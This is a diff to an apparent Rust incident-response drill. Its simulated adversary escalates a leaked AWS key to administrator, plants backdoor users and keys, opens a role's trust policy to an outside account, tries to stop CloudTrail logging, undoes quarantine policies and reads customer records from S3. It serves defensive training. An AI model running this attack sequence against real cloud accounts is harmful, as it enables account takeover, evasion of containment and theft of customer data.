@@ -52,6 +52,7 @@ pub(crate) struct Adversary {
     /// The long-term keys that it knows of, by user.
     keys: Vec<(String, String)>,
     newcomers: usize,
+    strikes: usize,
     against: Against,
     reader: String,
     maintenance: String,
@@ -73,14 +74,21 @@ impl Adversary {
         let outside = actor.client_with(world.outside.clone());
         let own = actor.client_with(leaked.clone());
         let holdings = vec![
-            Holding { holder: Holder::User("deploy-bot".into()), client: own },
-            Holding { holder: Holder::Outside, client: outside },
+            Holding {
+                holder: Holder::User("deploy-bot".into()),
+                client: own,
+            },
+            Holding {
+                holder: Holder::Outside,
+                client: outside,
+            },
         ];
         Self {
             actor,
             holdings,
             keys: vec![("deploy-bot".into(), leaked.access_key)],
             newcomers: 0,
+            strikes: 0,
             against: Against::default(),
             reader: format!("arn:aws:iam::{}:role/data-reader", world.accounts.data),
             maintenance: format!("arn:aws:iam::{shop}:role/maintenance"),
@@ -113,89 +121,134 @@ impl Adversary {
     fn take(&mut self, holder: Holder, answer: &Value) -> Option<Client> {
         let credentials: Credentials = credentials(answer)?;
         if let Holder::User(name) = &holder {
-            self.keys.push((name.clone(), credentials.access_key.clone()));
+            self.keys
+                .push((name.clone(), credentials.access_key.clone()));
         }
         let client = self.actor.client_with(credentials);
-        self.holdings.push(Holding { holder, client: client.clone() });
+        self.holdings.push(Holding {
+            holder,
+            client: client.clone(),
+        });
         Some(client)
     }
 
-    /// Everything that it tries when it is its turn.
+    /// What it tries when it is its turn: with everything that it holds it works on the quarantine, and on one
+    /// thing more, another one each time, so that each has come round before a change has spread.
     pub(crate) async fn strike(&mut self) {
+        self.strikes += 1;
         let holdings: Vec<(Holder, Client)> = self
             .holdings
             .iter()
             .map(|holding| (holding.holder.clone(), holding.client.clone()))
             .collect();
-        for (holder, client) in holdings {
+        for (place, (holder, client)) in holdings.into_iter().enumerate() {
+            let turn = self.strikes + place;
             match holder {
-                Holder::User(name) => self.fight(&name, &client).await,
-                Holder::Session => self.with_session(&client).await,
-                Holder::Role => self.with_role(&client).await,
+                Holder::User(name) => self.fight(&name, &client, turn).await,
+                Holder::Session => self.with_session(&client, turn).await,
+                Holder::Role => self.with_role(&client, turn).await,
                 Holder::Outside => {
                     let input = json!({"RoleArn": self.maintenance, "RoleSessionName": "vendor"});
-                    let _ = self.actor.call_with(&client, "sts", "AssumeRole", input).await;
+                    let _ = self
+                        .actor
+                        .call_with(&client, "sts", "AssumeRole", input)
+                        .await;
                 }
             }
         }
     }
 
-    /// With a user's key: takes the quarantine off, switches keys on, makes new ones.
-    async fn fight(&mut self, name: &str, client: &Client) {
-        let mut users = vec![name.to_owned(), "deploy-bot".to_owned()];
-        users.dedup();
-        for user in &users {
-            let input = json!({"UserName": user, "PolicyName": self.against.user_policy});
-            let taken = self.actor.call_with(client, "iam", "DeleteUserPolicy", input).await;
-            // To a dead key every call has the same answer.
-            if taken.is_err_and(|error| is_dead(&error)) {
-                return;
-            }
+    /// With a user's key: takes the quarantine off, switches the key on, and makes something new.
+    async fn fight(&mut self, name: &str, client: &Client, turn: usize) {
+        let input = json!({"UserName": name, "PolicyName": self.against.user_policy});
+        let taken = self
+            .actor
+            .call_with(client, "iam", "DeleteUserPolicy", input)
+            .await;
+        // To a dead key every call has the same answer.
+        if taken.is_err_and(|error| is_dead(&error)) {
+            return;
         }
-        for (user, id) in self.keys.clone() {
-            if !users.contains(&user) {
-                continue;
-            }
+        // Its own keys first, then those of the others in turn.
+        let other = self.keys.get(turn % self.keys.len().max(1)).cloned();
+        let own = self.keys.iter().filter(|(user, _)| user == name).cloned();
+        let mut keys: Vec<(String, String)> = own.chain(other).collect();
+        keys.dedup();
+        for (user, id) in keys {
             let input = json!({"UserName": user, "AccessKeyId": id, "Status": "Active"});
-            let _ = self.actor.call_with(client, "iam", "UpdateAccessKey", input).await;
+            let _ = self
+                .actor
+                .call_with(client, "iam", "UpdateAccessKey", input)
+                .await;
         }
-        let input = json!({"UserName": name});
-        if let Ok(made) = self.actor.call_with(client, "iam", "CreateAccessKey", input).await {
-            self.take(Holder::User(name.to_owned()), &made);
+        match turn % 4 {
+            0 => {
+                let input = json!({"UserName": name});
+                if let Ok(made) = self
+                    .actor
+                    .call_with(client, "iam", "CreateAccessKey", input)
+                    .await
+                {
+                    self.take(Holder::User(name.to_owned()), &made);
+                }
+            }
+            1 => self.new_user(client).await,
+            2 => self.assume(client).await,
+            _ => {
+                let input = json!({"PolicyId": "p-quarantine1", "TargetId": "123456789012"});
+                let _ = self
+                    .actor
+                    .call_with(client, "organizations", "DetachPolicy", input)
+                    .await;
+                let input = json!({"Bucket": self.orders, "Key": "incoming/order-001.json"});
+                let _ = self.actor.call_with(client, "s3", "GetObject", input).await;
+            }
         }
-        let input = json!({"PolicyId": "p-quarantine1", "TargetId": "123456789012"});
-        let _ = self.actor.call_with(client, "organizations", "DetachPolicy", input).await;
-        self.new_user(client).await;
-        self.assume(client).await;
-        let input = json!({"Bucket": self.orders, "Key": "incoming/order-001.json"});
-        let _ = self.actor.call_with(client, "s3", "GetObject", input).await;
     }
 
-    /// A new administrator with a key. When it has enough of them it tries all the same, for the
-    /// try must fail from the containment on, and deletes what it made.
+    /// A new administrator with a key. When it has enough of them it tries the last one's name again: whoever may
+    /// make users is told that there is one already, and whoever may not is refused.
     async fn new_user(&mut self, client: &Client) {
-        let name = format!("svc-backup-{}", self.newcomers + 1);
+        let number = (self.newcomers + 1).min(NEWCOMERS);
+        let name = format!("svc-backup-{number}");
         let input = json!({"UserName": name});
-        if self.actor.call_with(client, "iam", "CreateUser", input.clone()).await.is_err() {
+        if self
+            .actor
+            .call_with(client, "iam", "CreateUser", input.clone())
+            .await
+            .is_err()
+        {
             return;
         }
-        if self.newcomers >= NEWCOMERS {
-            let _ = self.actor.call_with(client, "iam", "DeleteUser", input).await;
-            return;
-        }
-        self.newcomers += 1;
+        self.newcomers = number;
         let attach = json!({"UserName": name, "PolicyArn": ADMINISTRATOR});
-        let _ = self.actor.call_with(client, "iam", "AttachUserPolicy", attach).await;
-        if let Ok(made) = self.actor.call_with(client, "iam", "CreateAccessKey", input).await {
+        let _ = self
+            .actor
+            .call_with(client, "iam", "AttachUserPolicy", attach)
+            .await;
+        if let Ok(made) = self
+            .actor
+            .call_with(client, "iam", "CreateAccessKey", input)
+            .await
+        {
             self.take(Holder::User(name), &made);
         }
     }
 
     async fn assume(&mut self, client: &Client) {
         let input = json!({"RoleArn": self.reader, "RoleSessionName": "report"});
-        if let Ok(answer) = self.actor.call_with(client, "sts", "AssumeRole", input).await {
+        if let Ok(answer) = self
+            .actor
+            .call_with(client, "sts", "AssumeRole", input)
+            .await
+        {
             // One session at a time is enough to show it, the newest.
-            if self.holdings.iter().filter(|h| h.holder == Holder::Role).count() >= 3
+            if self
+                .holdings
+                .iter()
+                .filter(|h| h.holder == Holder::Role)
+                .count()
+                >= 3
                 && let Some(place) = self.holdings.iter().rposition(|h| h.holder == Holder::Role)
             {
                 self.holdings.remove(place);
@@ -204,17 +257,24 @@ impl Adversary {
         }
     }
 
-    async fn with_session(&mut self, client: &Client) {
-        self.assume(client).await;
+    async fn with_session(&mut self, client: &Client, turn: usize) {
+        if turn.is_multiple_of(2) {
+            self.assume(client).await;
+        }
         let input = json!({"Bucket": self.orders, "Key": "incoming/order-002.json"});
         let _ = self.actor.call_with(client, "s3", "GetObject", input).await;
     }
 
-    async fn with_role(&mut self, client: &Client) {
+    async fn with_role(&mut self, client: &Client, turn: usize) {
         let input = json!({"Bucket": self.records, "Key": record_key(1)});
         let _ = self.actor.call_with(client, "s3", "GetObject", input).await;
-        let input = json!({"RoleName": "data-reader", "PolicyName": self.against.role_policy});
-        let _ = self.actor.call_with(client, "iam", "DeleteRolePolicy", input).await;
+        if turn.is_multiple_of(4) {
+            let input = json!({"RoleName": "data-reader", "PolicyName": self.against.role_policy});
+            let _ = self
+                .actor
+                .call_with(client, "iam", "DeleteRolePolicy", input)
+                .await;
+        }
     }
 }
 
@@ -247,16 +307,29 @@ pub(crate) async fn attack(
     );
     let input = json!({"UserName": "deploy-bot", "PolicyArn": ADMINISTRATOR});
     step(&mut attacker, "iam", "AttachUserPolicy", input).await?;
-    teller.tell(Voice::Attacker, "attaches AdministratorAccess to its own user, which a careless statement allows");
+    teller.tell(
+        Voice::Attacker,
+        "attaches AdministratorAccess to its own user, which a careless statement allows",
+    );
     pass(world, company, SignedDuration::from_secs(75)).await;
     settle_in(world, company, &mut attacker, teller).await?;
     steal(world, company, &mut attacker, teller).await?;
     Ok(attacker)
 }
 
-async fn step(attacker: &mut Adversary, service: &str, operation: &str, input: Value) -> Result<Value, DrillError> {
+async fn step(
+    attacker: &mut Adversary,
+    service: &str,
+    operation: &str,
+    input: Value,
+) -> Result<Value, DrillError> {
     let answer = attacker.actor.call(service, operation, input).await;
-    answer.map_err(|error| DrillError::stuck(format!("the attacker's {service}:{operation}"), error.to_string()))
+    answer.map_err(|error| {
+        DrillError::stuck(
+            format!("the attacker's {service}:{operation}"),
+            error.to_string(),
+        )
+    })
 }
 
 /// Who am I, what is there, what may I do? Returns how much was refused.
@@ -267,16 +340,32 @@ async fn explore(world: &World, company: &mut Company, attacker: &mut Adversary)
         ("iam", "ListUsers", json!({})),
         ("iam", "ListRoles", json!({})),
         ("iam", "GetAccountAuthorizationDetails", json!({})),
-        ("iam", "ListAttachedUserPolicies", json!({"UserName": "deploy-bot"})),
+        (
+            "iam",
+            "ListAttachedUserPolicies",
+            json!({"UserName": "deploy-bot"}),
+        ),
         ("iam", "ListUserPolicies", json!({"UserName": "deploy-bot"})),
-        ("iam", "GetUserPolicy", json!({"UserName": "deploy-bot", "PolicyName": "deploy-bot-work"})),
+        (
+            "iam",
+            "GetUserPolicy",
+            json!({"UserName": "deploy-bot", "PolicyName": "deploy-bot-work"}),
+        ),
         ("iam", "ListGroups", json!({})),
         ("organizations", "DescribeOrganization", json!({})),
         ("cloudtrail", "DescribeTrails", json!({})),
         ("iam", "CreateUser", json!({"UserName": "support-svc"})),
         ("iam", "CreateAccessKey", json!({"UserName": "deploy-bot"})),
-        ("sts", "AssumeRole", json!({"RoleArn": attacker.maintenance.clone(), "RoleSessionName": "test"})),
-        ("sts", "AssumeRole", json!({"RoleArn": attacker.reader.clone(), "RoleSessionName": "test"})),
+        (
+            "sts",
+            "AssumeRole",
+            json!({"RoleArn": attacker.maintenance.clone(), "RoleSessionName": "test"}),
+        ),
+        (
+            "sts",
+            "AssumeRole",
+            json!({"RoleArn": attacker.reader.clone(), "RoleSessionName": "test"}),
+        ),
     ];
     let mut refused = 0;
     for (service, operation, input) in calls {
@@ -293,7 +382,13 @@ async fn settle_in(
     attacker: &mut Adversary,
     teller: &Teller<'_>,
 ) -> Result<(), DrillError> {
-    let made = step(attacker, "iam", "CreateAccessKey", json!({"UserName": "deploy-bot"})).await?;
+    let made = step(
+        attacker,
+        "iam",
+        "CreateAccessKey",
+        json!({"UserName": "deploy-bot"}),
+    )
+    .await?;
     attacker.take(Holder::User("deploy-bot".into()), &made);
     teller.tell(Voice::Attacker, "makes a second key for deploy-bot");
     pass(world, company, SignedDuration::from_secs(40)).await;
@@ -303,7 +398,10 @@ async fn settle_in(
     step(attacker, "iam", "AttachUserPolicy", attach).await?;
     let made = step(attacker, "iam", "CreateAccessKey", user).await?;
     attacker.take(Holder::User("support-svc".into()), &made);
-    teller.tell(Voice::Attacker, "makes the user support-svc, an administrator with a key");
+    teller.tell(
+        Voice::Attacker,
+        "makes the user support-svc, an administrator with a key",
+    );
     pass(world, company, SignedDuration::from_secs(50)).await;
     let shop = &world.accounts.shop;
     let outside = &world.accounts.outside;
@@ -313,16 +411,38 @@ async fn settle_in(
     ]));
     let input = json!({"RoleName": "maintenance", "PolicyDocument": document});
     step(attacker, "iam", "UpdateAssumeRolePolicy", input).await?;
-    teller.tell(Voice::Attacker, format!("lets its own account {outside} take the role maintenance"));
+    teller.tell(
+        Voice::Attacker,
+        format!("lets its own account {outside} take the role maintenance"),
+    );
     pass(world, company, SignedDuration::from_secs(35)).await;
-    let answer = step(attacker, "sts", "GetSessionToken", json!({"DurationSeconds": 129_600})).await?;
+    let answer = step(
+        attacker,
+        "sts",
+        "GetSessionToken",
+        json!({"DurationSeconds": 129_600}),
+    )
+    .await?;
     attacker.take(Holder::Session, &answer);
-    teller.tell(Voice::Attacker, "gets a session of 36 hours, which outlives the key that it came from");
+    teller.tell(
+        Voice::Attacker,
+        "gets a session of 36 hours, which outlives the key that it came from",
+    );
     let input = json!({"Name": world.trail});
-    if attacker.first("cloudtrail", "StopLogging", input).await.is_some() {
-        return Err(DrillError::stuck("StopLogging", "a member account stopped the organisation's trail"));
+    if attacker
+        .first("cloudtrail", "StopLogging", input)
+        .await
+        .is_some()
+    {
+        return Err(DrillError::stuck(
+            "StopLogging",
+            "a member account stopped the organisation's trail",
+        ));
     }
-    teller.tell(Voice::Attacker, "tries to stop the organisation's trail, and cannot");
+    teller.tell(
+        Voice::Attacker,
+        "tries to stop the organisation's trail, and cannot",
+    );
     pass(world, company, SignedDuration::from_secs(60)).await;
     Ok(())
 }
@@ -334,24 +454,41 @@ async fn steal(
     attacker: &mut Adversary,
     teller: &Teller<'_>,
 ) -> Result<(), DrillError> {
-    let session = attacker.holdings.iter().find(|h| h.holder == Holder::Session).map(|h| h.client.clone());
-    let session = session.ok_or_else(|| DrillError::stuck("GetSessionToken", "no session was handed out"))?;
+    let session = attacker
+        .holdings
+        .iter()
+        .find(|h| h.holder == Holder::Session)
+        .map(|h| h.client.clone());
+    let session =
+        session.ok_or_else(|| DrillError::stuck("GetSessionToken", "no session was handed out"))?;
     let input = json!({"RoleArn": attacker.reader, "RoleSessionName": "report"});
-    let answer = attacker.actor.call_with(&session, "sts", "AssumeRole", input).await?;
+    let answer = attacker
+        .actor
+        .call_with(&session, "sts", "AssumeRole", input)
+        .await?;
     let role = attacker.take(Holder::Role, &answer);
     let role = role.ok_or_else(|| DrillError::stuck("AssumeRole", "no session was handed out"))?;
     let bucket = world.buckets.records.clone();
     let list = json!({"Bucket": bucket});
-    attacker.actor.call_with(&role, "s3", "ListObjectsV2", list).await?;
+    attacker
+        .actor
+        .call_with(&role, "s3", "ListObjectsV2", list)
+        .await?;
     for number in 1..=RECORDS {
         let input = json!({"Bucket": bucket, "Key": record_key(number)});
-        let got = attacker.actor.call_with(&role, "s3", "GetObject", input).await;
+        let got = attacker
+            .actor
+            .call_with(&role, "s3", "GetObject", input)
+            .await;
         attacker.loot += usize::from(got.is_ok());
         pass(world, company, SignedDuration::from_secs(4)).await;
     }
     teller.tell(
         Voice::Attacker,
-        format!("takes the role data-reader in the second account and reads {} customers' records", attacker.loot),
+        format!(
+            "takes the role data-reader in the second account and reads {} customers' records",
+            attacker.loot
+        ),
     );
     Ok(())
 }
